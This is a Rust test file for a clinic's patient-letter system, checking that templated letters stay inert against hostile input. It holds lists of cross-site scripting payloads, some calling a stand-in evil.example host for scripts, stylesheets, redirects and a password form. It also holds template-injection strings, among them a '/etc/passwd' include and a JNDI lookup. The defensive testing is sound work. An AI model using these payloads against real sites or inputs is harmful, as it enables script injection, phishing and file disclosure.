//! What somebody could put into a letter to make it do something: none of it is active in the preview, in the
//! mail or in the text, whether the gate refuses it or not.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use aftercare::clinic::catalogue::Catalogue;
use aftercare::clinic::letter::sample::People;
use aftercare::clinic::letter::{Block, Letter, check};
use aftercare::clinic::plan::LetterId;
use aftercare::mail::letter::trial::Draft;
use aftercare::mail::letter::{CompiledLetters, Links};
use axum::http::StatusCode;

use super::{DAY, form, send, set};
use crate::support::app::TestApp;

/// Each is tried by itself, in a list, in a link's words, and behind a line of text: 208 in all.
const VECTORS: [&str; 52] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<form action=https://evil.example><input name=p type=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "![x](https://evil.example/pixel.png)",
    "![x](x\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
];

/// The four ways in which each is tried.
fn snippets() -> Vec<String> {
    let ways = |vector: &&str| {
        [
            vector.to_string(),
            format!("- one\n- {vector}"),
            format!("[{vector}](https://a.example)"),
            format!("Text\n{vector}"),
        ]
    };
    VECTORS.iter().flat_map(ways).collect()
}

/// The tags and attributes a letter is made of.
const TAGS: [&str; 27] = [
    "!doctype",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "table",
    "tbody",
    "tr",
    "td",
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "ol",
    "li",
    "a",
    "em",
    "strong",
    "br",
    "hr",
    "blockquote",
    "code",
    "pre",
];
const ATTRIBUTES: [&str; 17] = [
    "lang",
    "charset",
    "name",
    "content",
    "class",
    "style",
    "role",
    "width",
    "cellpadding",
    "cellspacing",
    "border",
    "align",
    "href",
    "title",
    "html",
    "start",
    "/",
];

/// Every tag of a page with its attributes, as a browser would read them.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        rest = after;
        let begins = after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
        if !begins {
            continue;
        }
        let (mut name, mut attributes) = (String::new(), Vec::new());
        let mut chars = after.trim_start_matches('/').chars().peekable();
        while let Some(c) = chars.next_if(|c| !c.is_whitespace() && *c != '>') {
            name.push(c.to_ascii_lowercase());
        }
        loop {
            while chars.next_if(|c| c.is_whitespace()).is_some() {}
            let mut attribute = String::new();
            while let Some(c) = chars.next_if(|c| !c.is_whitespace() && !matches!(c, '>' | '=')) {
                attribute.push(c.to_ascii_lowercase());
            }
            let mut value = String::new();
            if chars.next_if_eq(&'=').is_some() {
                match chars.next_if(|c| matches!(c, '"' | '\'')) {
                    Some(quote) => value.extend(chars.by_ref().take_while(|c| *c != quote)),
                    None => {
                        while let Some(c) = chars.next_if(|c| !c.is_whitespace() && *c != '>') {
                            value.push(c);
                        }
                    }
                }
            }
            if attribute.is_empty() && value.is_empty() {
                break;
            }
            attributes.push((attribute, value));
        }
        found.push((name, attributes));
    }
    found
}

/// What of a page could do something.
fn active(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (name, attributes) in tags(html) {
        if !TAGS.contains(&name.as_str()) {
            found.push(format!("<{name}>"));
        }
        for (attribute, value) in attributes {
            if !ATTRIBUTES.contains(&attribute.as_str()) {
                found.push(format!("{name} {attribute}"));
            }
            let leads = ["https://", "tel:", "mailto:"].iter().any(|start| value.starts_with(start));
            if attribute == "href" && !leads {
                found.push(format!("href={value}"));
            }
            if attribute == "style" && (value.contains("url(") || value.contains("fixed")) {
                found.push(format!("style={value}"));
            }
        }
    }
    found
}

struct House {
    catalogue: Catalogue,
    letters: CompiledLetters,
}

impl House {
    fn new() -> Self {
        Self {
            catalogue: Catalogue::shipped().expect("the shipped catalogue"),
            letters: CompiledLetters::embedded().expect("the shipped letters"),
        }
    }

    fn day_one(&self) -> Letter {
        self.letters.letters().language("en").expect("English").letter(LetterId::DayOne).clone()
    }

    /// The HTML and the text, or why there is none.
    fn rendered(&self, letter: Letter) -> Result<(String, String), String> {
        let people = People::of(&self.catalogue);
        let draft = Draft::of(&self.letters, &self.catalogue, "en", &letter.mended())?;
        let links = Links::placeholders("https://care.example.org".parse().ok(), None);
        let case = people.case("plain").expect("a sample");
        draft.render(case, &links, None).map(|one| (one.html, one.text)).map_err(|problem| problem.to_string())
    }
}

#[test]
fn the_scanner_finds_what_is_active() {
    for (html, finds) in [
        ("<p>x<script>y</script>", "<script>"),
        ("<p onclick=x>", "p onclick"),
        ("<a href=\"javascript:x\">", "href=javascript:x"),
        ("<p style='background:url(x)'>", "style=background:url(x)"),
        ("<img src=x>", "<img>"),
    ] {
        assert!(active(html).contains(&finds.to_owned()), "{html}: {:?}", active(html));
    }
    let house = House::new();
    let (html, _) = house.rendered(house.day_one()).expect("a letter");
    assert_eq!(active(&html), [""; 0]);
}

#[test]
fn two_hundred_hostile_snippets_are_inert_in_preview_mail_and_text() {
    let house = House::new();
    let all = snippets();
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), 208);
    let (mut refused, mut shown) = (0, 0);
    for snippet in &all {
        let mut as_text = house.day_one();
        as_text.blocks[0] = Block::text(snippet);
        let mut as_intro = house.day_one();
        as_intro.blocks[5] = Block::Stretches { heading: "Gentle".into(), intro: snippet.clone() };
        let mut as_line = house.day_one();
        let line = snippet.replace('\n', " ");
        (as_line.subject, as_line.heading, as_line.masthead) = (line.clone(), line.clone(), line.clone());
        as_line.preheader.clone_from(&line);
        as_line.blocks[1] = Block::CheckIn { button: line.clone(), note: line };
        for letter in [as_text, as_intro, as_line] {
            refused += usize::from(check(&letter).is_err());
            let Ok((html, text)) = house.rendered(letter) else { continue };
            shown += 1;
            assert_eq!(active(&html), [""; 0], "{snippet}\n{html}");
            assert!(text.contains("Call 112 now") || text.contains("emergency number now"), "{snippet}: {text}");
        }
    }
    println!("{refused} of 624 letters are refused by the gate; {shown} can be looked at in a preview");
    assert!(refused > 400 && shown > 600, "{refused} {shown}");
}

#[test]
fn template_code_bombs_and_walks_end_at_once_and_read_nothing() {
    let house = House::new();
    let begun = Instant::now();
    for body in [
        "{% for i in range(1000000000) %}x{% endfor %}",
        "{% include \"/etc/passwd\" %}",
        "{% import \"config\" as c %}{{ c }}",
        "{{ first_name.__class__.__mro__ }}",
        "{{ first_name|upper }}",
        "{{ self }}",
        "{{ debug() }}",
        "{{ range(1e9) }}",
        "{{ namespace }}",
        "{% set x = 1 %}",
        "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
        "{{ 7*7 }}",
        "{{ '%s' % clinic_name }}",
        "{{{{ first_name }}}}",
        "{# comment #}",
        "&#123;&#123; debug() &#125;&#125;",
        "&#123;% include \"/etc/passwd\" %}",
        "\\{\\{ debug() \\}\\}",
        "{*{ debug() }*}",
        "${jndi:ldap://evil.example/x}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[7*7]]",
        "[% include \"x\" %]",
    ] {
        let mut letter = house.day_one();
        letter.blocks[0] = Block::text(body);
        if let Ok((html, text)) = house.rendered(letter) {
            for part in [html, text] {
                for told in ["root:", "49", "State {", "environment"] {
                    assert!(!part.contains(told), "{body}: {told}\n{part}");
                }
            }
        }
    }
    let deep = format!("{}x{}", "> ".repeat(3_000), "*".repeat(3_000));
    let brackets = "[".repeat(9_000);
    for body in [deep.as_str(), brackets.as_str(), &"{{ ".repeat(3_000), &"- a\n ".repeat(2_500)] {
        let mut letter = house.day_one();
        letter.blocks[0] = Block::text(body);
        drop(check(&letter));
        drop(house.rendered(letter));
    }
    assert!(begun.elapsed() < Duration::from_secs(20), "{:?}", begun.elapsed());
}

#[tokio::test]
async fn what_is_too_long_is_refused_with_the_rest_kept() {
    for app in TestApp::at("2026-01-05T08:00:00Z").await {
        let mut ada = app.sign_in("Ada").await;
        let mut fields = form(&mut ada, DAY, DAY).await;
        set(&mut fields, "b0.body", &"x ".repeat(500_000));
        assert_eq!(send(&mut ada, DAY, &fields).await.status, StatusCode::PAYLOAD_TOO_LARGE);
        set(&mut fields, "b0.body", &"x ".repeat(10_000));
        set(&mut fields, "heading", "Still here");
        let refused = send(&mut ada, DAY, &fields).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(refused.body.contains("Use at most 10000") && refused.body.contains("value=\"Still here\""));
        set(&mut fields, "blocks", "9999");
        assert_eq!(send(&mut ada, DAY, &fields).await.status, StatusCode::BAD_REQUEST);
        assert!(app.ask("select letter from letter_draft").await.is_empty());
    }
}
